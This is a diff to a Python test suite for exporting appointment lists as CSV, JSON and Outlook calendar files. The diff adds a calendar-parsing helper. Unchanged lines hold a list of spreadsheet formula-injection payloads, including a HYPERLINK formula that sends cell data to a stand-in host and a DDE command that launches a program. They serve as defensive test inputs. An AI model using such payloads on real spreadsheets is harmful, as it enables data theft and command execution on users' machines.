@@ -29,6 +29,12 @@ ID = "01968000-0000-7000-8000-000000000001"
 CITIZEN_ID = "01968000-0000-7000-8000-0000000000c1"
 MH = Person(id="01968000-0000-7000-8000-00000000000a", initials="MH", name="Mette Holm", role="consultant")
 
+
+def read_calendar(text: str) -> Any:
+    """The calendar as another program reads it; icalendar's own types allow every property to be anything."""
+    return Calendar.from_ical(text)
+
+
 # What a spreadsheet might take for a formula, in the forms that attackers have used.
 EVIL = (
     '=HYPERLINK("https://x.example/?"&A1;"klik")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1;1)", "|calc", "%0A=1", "＝1+1",
@@ -183,7 +189,7 @@ def test_any_place_survives_a_calendar_in_lines_of_at_most_75_octets(place: str)
     data = listed("outlook", "ics", line)
     assert all(len(each) <= 75 for each in data.split(b"\r\n"))
     assert data.count(b"\n") == data.count(b"\r\n")
-    event = Calendar.from_ical(data.decode()).walk("VEVENT")[0]
+    event = read_calendar(data.decode()).walk("VEVENT")[0]
     assert str(event.get("LOCATION", "")) == clean(place)
 
 
@@ -202,13 +208,13 @@ def test_a_calendar_gives_back_every_instant_also_over_both_clock_changes(start:
         starts_at=start.astimezone(COPENHAGEN),
         ends_at=(start + timedelta(minutes=minutes)).astimezone(COPENHAGEN),
     )
-    event = Calendar.from_ical(listed("outlook", "ics", line).decode()).walk("VEVENT")[0]
+    event = read_calendar(listed("outlook", "ics", line).decode()).walk("VEVENT")[0]
     assert event["DTSTART"].dt.astimezone(UTC) == start
     assert event["DTEND"].dt.astimezone(UTC) == start + timedelta(minutes=minutes)
 
 
 def test_the_calendars_own_time_zone_block_knows_the_danish_offsets() -> None:
-    zone = Calendar.from_ical(listed("outlook", "ics").decode()).walk("VTIMEZONE")[0].to_tz()
+    zone = read_calendar(listed("outlook", "ics").decode()).walk("VTIMEZONE")[0].to_tz()
     for year in range(1997, 2038):
         for month, day, hour in ((1, 15, 12), (7, 15, 12), (3, 24, 12), (11, 1, 12)):
             wall = datetime(year, month, day, hour)
@@ -217,7 +223,7 @@ def test_the_calendars_own_time_zone_block_knows_the_danish_offsets() -> None:
 
 def test_an_event_is_private_neutral_and_invites_nobody() -> None:
     line = line_of(an_appointment(), a_citizen(), MH, profile="outlook")
-    calendar = Calendar.from_ical(listed("outlook", "ics", line).decode())
+    calendar = read_calendar(listed("outlook", "ics", line).decode())
     event = calendar.walk("VEVENT")[0]
     assert calendar["METHOD"] == "PUBLISH"
     assert event["SUMMARY"] == f"Aftale {line.reference}"
@@ -236,14 +242,14 @@ def test_an_event_is_private_neutral_and_invites_nobody() -> None:
 def test_a_cancelled_appointment_is_taken_out_of_outlook_and_left_out_of_lists(status: Attendance) -> None:
     appointment = an_appointment(status=status)
     ics = listed("outlook", "ics", line_of(appointment, None, MH, profile="outlook"))
-    assert Calendar.from_ical(ics.decode()).walk("VEVENT")[0]["STATUS"] == "CANCELLED"
+    assert read_calendar(ics.decode()).walk("VEVENT")[0]["STATUS"] == "CANCELLED"
     assert json.loads(listed("own", "json", line_of(appointment, a_citizen(), MH, profile="own"))) == []
 
 
 def test_an_empty_list_says_so_in_every_form() -> None:
     assert rows(listed("reception", "csv"))[1] == ["Ingen aftaler"] + [""] * 8
     assert json.loads(listed("own", "json")) == []
-    calendar = Calendar.from_ical(listed("outlook", "ics").decode())
+    calendar = read_calendar(listed("outlook", "ics").decode())
     assert calendar["X-WR-CALDESC"] == "Ingen aftaler"
     assert len(calendar.walk("VTIMEZONE")) == 1
 
